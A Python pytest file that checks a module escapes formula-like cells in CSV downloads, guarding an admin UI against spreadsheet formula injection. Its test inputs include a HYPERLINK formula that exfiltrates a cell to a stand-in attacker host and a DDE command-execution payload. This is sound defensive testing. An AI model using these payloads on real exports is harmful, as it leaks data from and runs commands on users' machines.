"""Every CSV the admin UI hands out opens in a spreadsheet as data, never as a formula."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from provisioning.spreadsheet import (
    BYTE_ORDER_MARK,
    csv_attachment,
    csv_document,
    protect_cell,
    unprotect_cell,
)


def read_back(document: str, delimiter: str = ",") -> list[list[str]]:
    """The rows as a spreadsheet receives them: the UTF-8 bytes of the download."""
    data = document.encode("utf-8")
    assert data.startswith(BYTE_ORDER_MARK.encode("utf-8"))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+7 900 000-00-01", "-2+3",
     "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)  # fmt: skip
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(cell: str) -> None:
    [row] = read_back(csv_document([["a", cell, 3]]))
    assert row == ["a", "'" + cell, "3"]
    assert unprotect_cell(row[1]) == cell


@pytest.mark.parametrize("cell", ["Иван Петров", "", "5А", "a=b", "user@example.org", "'quoted"])
def test_ordinary_cells_are_written_as_they_are(cell: str) -> None:
    assert protect_cell(cell) == cell
    assert unprotect_cell(cell) == cell


def test_a_value_that_looks_marked_already_comes_back_as_it_was() -> None:
    assert protect_cell("'=1") == "''=1"
    assert unprotect_cell(protect_cell("'=1")) == "'=1"


def test_none_is_an_empty_cell_and_numbers_are_text() -> None:
    assert read_back(csv_document([[None, 7, -1]])) == [["", "7", "'-1"]]


CELLS = st.text(st.sampled_from("=+-@\t\r'a ;,\"\n")) | st.text()


@given(st.lists(st.lists(CELLS, min_size=1, max_size=4), min_size=1, max_size=4))
def test_no_cell_read_back_starts_a_formula_and_unprotecting_gives_the_value(
    rows: list[list[str]],
) -> None:
    document = csv_document(rows)
    back = list(csv.reader(io.StringIO(document.removeprefix(BYTE_ORDER_MARK), newline="")))
    cells = [cell for row in back for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert [[unprotect_cell(cell) for cell in row] for row in back] == [
        [cell for cell in row] for row in rows
    ]


def test_the_download_is_an_attachment_in_utf8() -> None:
    response = csv_attachment(csv_document([["=1"]], delimiter=";"), "x.csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="x.csv"'
    assert read_back(bytes(response.body).decode("utf-8"), ";") == [["'=1"]]


def test_every_csv_download_is_written_here() -> None:
    """A CSV writer or response anywhere else would skip the protection: find them all."""
    root = Path(__file__).resolve().parents[1]
    elsewhere = []
    for folder in ("parta", "foundation", "matrix", "provisioning", "widgets"):
        for path in sorted((root / folder).rglob("*.py")):
            if path == root / "provisioning" / "spreadsheet.py":
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for call in (n for n in ast.walk(tree) if isinstance(n, ast.Call)):
                func = call.func
                name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                writes_csv = name in ("writer", "DictWriter") and "csv" in ast.unparse(func)
                csv_response = name.endswith("Response") and any(
                    k.arg == "media_type" and "text/csv" in ast.unparse(k.value)
                    for k in call.keywords
                )
                if writes_csv or csv_response:
                    elsewhere.append(f"{path.relative_to(root)}:{call.lineno}")
    assert not elsewhere, f"write CSV downloads with provisioning.spreadsheet: {elsewhere}"
